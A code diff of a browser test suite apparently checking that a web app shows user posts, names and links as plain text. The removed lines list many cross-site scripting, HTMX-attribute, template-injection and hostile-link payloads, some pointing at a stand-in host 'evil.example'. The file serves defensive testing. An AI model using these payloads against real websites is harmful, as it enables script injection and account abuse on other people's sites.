@@ -1,119 +1,38 @@
 """What people might write to do harm, stored and shown in a real browser: it is text, and nothing else happens."""
 
 from datetime import timedelta
+from pathlib import Path
 from typing import Any
 
 import pytest
-from browsing import Watch, composer, ready, send, sign_in, write
+from browsing import Watch, composer, enter, ready, send, write
 from factories import make_activity, make_user
 from playwright.sync_api import Locator, Page, expect
 from verbs import number_of
 
 from webapp.db.connections import Connection
 
-MARKUP = [
-    "<script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</p></article></main><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=//evil.example/x.png>",
-    '"><img src=x onerror=alert(1)>',
-    "'><svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><use href='//evil.example/x.svg#x'/></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src='//evil.example'></iframe>",
-    "<object data='//evil.example/x'></object><embed src='//evil.example/y'>",
-    "<base href='//evil.example/'>",
-    "<link rel=stylesheet href='//evil.example/x.css'>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
-    "<form action='//evil.example'><input name=password autofocus></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<body onload=alert(1)>",
-    "<a href='javascript:alert(1)'>click</a>",
-    "<dialog open>hello</dialog>",
-    "<template shadowrootmode=open><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u003cscript\u003ealert(1)\u003c/script\u003e",
-    "＜script＞alert(1)＜/script＞",
-    "{{7*7}}{% raw %}{{config}}{% endraw %}",
-    "{{''.__class__.__mro__}}",
-    "${alert(1)}#{alert(1)}<%= 7*7 %>",
-    "%s %(uuid)s %% {0} \\' ' \" -- ; DROP TABLE users",
-    "]]>--></style></script>",
-]
-HTMX = [
-    "<div hx-get='/api/home' hx-trigger='load'></div>",
-    "<div data-hx-get='/api/home' data-hx-trigger='load'></div>",
-    "<div hx-post='/sign-out' hx-trigger='load'></div>",
-    "<div hx-get='//evil.example' hx-trigger='load'></div>",
-    "<div hx-get='//evil.example' hx-trigger='revealed'></div>",
-    "<div hx-get='//evil.example' hx-trigger='every 1s'></div>",
-    "<div hx-on:load='alert(1)'></div>",
-    "<div hx-on::load='alert(1)'></div>",
-    "<div hx-on:htmx:after:process='alert(1)'></div>",
-    "<img src=x hx-on:error='alert(1)'>",
-    "<hx-partial hx-target='#main' hx-swap='innerHTML'>gone</hx-partial>",
-    "<hx-partial hx-target='body' hx-swap='delete'></hx-partial>",
-    "<div id='feed' hx-swap-oob='true'>gone</div>",
-    "<div id='announcer' hx-swap-oob='innerHTML'>gone</div>",
-    "<div hx-sse:connect='/stream'></div>",
-    "<div hx-ws:connect='ws://evil.example'></div>",
-    "<div hx-vals='js:{x:alert(1)}' hx-get='/' hx-trigger='load'></div>",
-    "<div hx-headers='js:{x:alert(1)}' hx-get='/' hx-trigger='load'></div>",
-    "<div hx-get='/' hx-trigger='load[alert(1)]'></div>",
-    "<a href='/' hx-boost='true' hx-confirm='js:alert(1)'>x</a>",
-    "<meta name='htmx-config' content='{\"mode\":\"cors\"}'>",
-    "<template hx-partial></template><hx-anything></hx-anything>",
-    "hx-get=/api/home hx-trigger=load",
-    "' hx-get='/api/home' hx-trigger='load' x='",
-    '" hx-get="/api/home" hx-trigger="load" x="',
-]
-LINKS = [
-    "javascript:alert(1)",
-    "java\tscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1) file:///etc/passwd",
-    'http://example.org/"onmouseover=alert(1)//',
-    "http://example.org/'onmouseover='alert(1)",
-    "https://example.org/<img src=x onerror=alert(1)>",
-    "https://user:pass@evil.example/@alice",
-    "https://evil.example\\@example.org/",
-    "https://example.org/\u202egnp.exe",
-    "http://[::1]:80/ http://127.0.0.1/sign-out http://0x7f.1/",
-    "https://xn--pple-43d.com https://аpple.com",
-    '@alice@evil.example @alice/../../sign-out @alice"onclick=alert(1)',
-    "https://example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E",
-    "https://example.org/" + "a" * 230,
-]
-NAMES = [
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "' autofocus onfocus='alert(1)",
-    "<b hx-get=/api/home hx-trigger=load>",
-    "{{7*7}}",
-]
+TEXTS: dict[str, list[str]] = {}
+for line in Path(__file__).with_name("hostile_texts.txt").read_text().splitlines()[1:]:
+    if line.startswith("## "):
+        TEXTS[line[3:]] = kind = []
+    else:
+        kind.append(line.encode().decode("unicode_escape"))
+MARKUP, HTMX, LINKS, NAMES = (TEXTS[kind] for kind in ("markup", "htmx", "links", "names"))
 _SHAPE = (
     """(root) => [...root.querySelectorAll("*")].map((e) => e.tagName.toLowerCase()).filter((name) => name !== "a")"""
 )
 
 
-def test_messages_stay_text_on_every_page(page: Page, watch: Watch, conn: Connection, alice: str) -> None:
+def test_messages_stay_text_on_every_page(
+    page: Page, watch: Watch, conn: Connection, base_url: str, alice: str
+) -> None:
     """No element but a link comes out of a message, no link leads to anything but http(s), and nothing runs."""
     corpus = [*MARKUP, *HTMX, *LINKS]
     top = make_activity(conn, alice, "The beginning.")
     for words in corpus:
         make_activity(conn, alice, words[:280], reply_to=top)
-    sign_in(page, "alice")
+    enter(page, conn, base_url)
     watch.requests.clear()
     seen: set[str] = set()
     paths = ["/", "/public", "/@alice", f"/@alice/status/{top}"]
@@ -144,9 +63,8 @@ def test_messages_stay_text_on_every_page(page: Page, watch: Watch, conn: Connec
     assert strange == []
 
 
-def test_names_and_bios_stay_text(page: Page, watch: Watch, conn: Connection, alice: str) -> None:
-    top = make_activity(conn, alice, "A card.")
-    sign_in(page, "alice")
+def test_names_and_bios_stay_text(home: Page, watch: Watch, conn: Connection, alice: str) -> None:
+    page, top = home, make_activity(conn, alice, "A card.")
     for name in NAMES:
         conn.execute("UPDATE users SET display_name = %s, bio = %s", [name[:50], name * 3])
         watch.requests.clear()
@@ -157,57 +75,40 @@ def test_names_and_bios_stay_text(page: Page, watch: Watch, conn: Connection, al
         assert [url for url in watch.requests if "/api/" in url] == []
 
 
-@pytest.mark.parametrize("words", [MARKUP[1], MARKUP[2], HTMX[0], HTMX[10], HTMX[12]])
-def test_what_is_swapped_in_by_htmx_stays_text(page: Page, watch: Watch, alice: str, words: str) -> None:
+def test_what_is_swapped_in_by_htmx_stays_text(home: Page, watch: Watch) -> None:
     """The answer to a post and the form that comes back with a 422 go through HTMX's own parser."""
     watch.expect_errors()
-    sign_in(page, "alice")
-    form = ready(composer(page))
-    write(form, words + "w" * 280)
-    send(form)
-    expect(form.locator(".error")).to_be_visible()
-    expect(form.get_by_role("textbox")).to_have_value(words + "w" * 280)
-    watch.requests.clear()
-    write(form, words)
-    send(form)
-    expect(page.get_by_role("article")).to_have_count(1)
-    assert page.locator("article > .message").text_content() == words
-    assert page.locator("article > .message *").count() == 0
-    assert [url.rsplit("/", 1)[1] for url in watch.requests] == ["activities"]
-
-
-def test_an_injected_element_would_be_caught(page: Page, watch: Watch, conn: Connection, alice: str) -> None:
-    """The negative control: the same page with its text turned into markup is noticed."""
-    make_activity(conn, alice, "<img src=//evil.example/x.png><b>bold</b>")
-    page.route("**/evil.example/**", lambda route: route.abort())
-
-    def unescape(route: Any) -> None:
-        answer = route.fetch()
-        body = answer.text().replace("&lt;", "<").replace("&gt;", ">").replace("&#39;", "'").replace("&#34;", '"')
-        route.fulfill(response=answer, body=body)
-
-    page.route("**/public", unescape)
-    page.goto("/public")
-    assert page.locator("article > .message").evaluate(_SHAPE) == ["img", "b"]
-    assert any(trouble.startswith("CSP: img-src") for trouble in watch.troubles)
-    watch.expected = ["CSP: img-src", "console error", "request to a stranger"]
+    for words in (MARKUP[1], MARKUP[2], HTMX[0], HTMX[10], HTMX[12]):
+        form = ready(composer(home))
+        write(form, words + "w" * 280)
+        send(form)
+        expect(form.locator(".error")).to_be_visible()
+        expect(form.get_by_role("textbox")).to_have_value(words + "w" * 280)
+        watch.requests.clear()
+        write(form, words)
+        send(form)
+        newest = home.locator("article > .message").first
+        expect(newest).to_have_text(words)
+        assert newest.text_content() == words
+        assert home.locator("article > .message *").count() == 0
+        assert [url.rsplit("/", 1)[1] for url in watch.requests] == ["activities"]
 
 
 # What is drawn -------------------------------------------------------------------------------------------------
 
 PILE = ("o" + "\u0300" * 140 + "o" + "\u0323" * 140) * 8
 PLACES = {
-    "a message": ("/public", "#activity-{0} > .message", ["#activity-{1}", "#activity-{2}", ".welcome"]),
-    "a name on a card": ("/public", "#activity-{0} .name", ["#activity-{1}", "#activity-{2}", ".welcome"]),
-    "a snippet": (
-        "/public",
-        ".vanishing li:nth-child(2)",
-        [".vanishing li:nth-child(1) a", ".vanishing li:nth-child(3) a"],
-    ),
-    "a text about oneself": ("/@mallory", ".bio", [".profile h1", ".masthead", "#activity-{0}"]),
-    "a name on its page": ("/@mallory", ".profile h1", [".masthead", ".profile .bio", "#activity-{0}"]),
+    "/public": {
+        "#activity-{0} > .message": ["#activity-{1}", "#activity-{2}", ".welcome"],
+        "#activity-{0} .name": ["#activity-{1}", "#activity-{2}", ".welcome"],
+        ".vanishing li:nth-child(2)": [".vanishing li:nth-child(1) a", ".vanishing li:nth-child(3) a"],
+    },
+    "/@mallory": {
+        ".bio": [".profile h1", ".masthead", "#activity-{0}"],
+        ".profile h1": [".masthead", ".profile .bio", "#activity-{0}"],
+    },
 }
-"""Where marks are piled up: the page, the piece itself, and what stands around it."""
+"""Where marks are piled up, by page: the piece itself, and what stands around it."""
 
 _STILL = "() => document.querySelectorAll('svg, time, .left').forEach((part) => { part.style.visibility = 'hidden'; })"
 _OPEN = """(how) => {
@@ -230,24 +131,24 @@ def drawn(pieces: list[Locator]) -> list[bytes]:
     return [piece.screenshot(animations="disabled") for piece in pieces]
 
 
-@pytest.mark.parametrize("width", [390, 1280])
-@pytest.mark.parametrize("place", PLACES)
-def test_pile_of_marks_is_drawn_over_nothing_around(page: Page, conn: Connection, place: str, width: int) -> None:
+@pytest.mark.parametrize("path", PLACES)
+def test_pile_of_marks_is_drawn_over_nothing_around(page: Page, conn: Connection, path: str) -> None:
     """What stands around looks as it does when the marks are not drawn; without the border it would not."""
-    path, own, around = PLACES[place]
     made = [number_of(conn, activity) for activity in community(conn)]
-    page.set_viewport_size({"width": width, "height": 900})
+    page.set_viewport_size({"width": 1280, "height": 900})  # a phone shows no side list
     page.emulate_media(reduced_motion="reduce")
     page.goto(path)
     page.evaluate(_STILL)  # what time moves
-    piece = page.locator(own.format(*made))
-    pieces = [page.locator(name.format(*made)).first for name in around]
-    seen = drawn(pieces)
-    piece.evaluate("(own) => { own.style.visibility = 'hidden'; }")
-    assert drawn(pieces) == seen
-    piece.evaluate("(own) => { own.style.visibility = ''; }")
-    page.evaluate(_OPEN, "inset(-99rem)")
-    assert drawn(pieces) != seen, "marks that are drawn nowhere prove nothing"
+    for own, around in PLACES[path].items():
+        piece = page.locator(own.format(*made))
+        pieces = [page.locator(name.format(*made)).first for name in around]
+        seen = drawn(pieces)
+        piece.evaluate("(own) => { own.style.visibility = 'hidden'; }")
+        assert drawn(pieces) == seen, own
+        piece.evaluate("(own) => { own.style.visibility = ''; }")
+        page.evaluate(_OPEN, "inset(-99rem)")
+        assert drawn(pieces) != seen, f"marks that are drawn nowhere prove nothing: {own}"
+        page.evaluate(_OPEN, "")
 
 
 def test_what_stands_at_the_border_is_drawn_whole(page: Page, conn: Connection, alice: str) -> None:
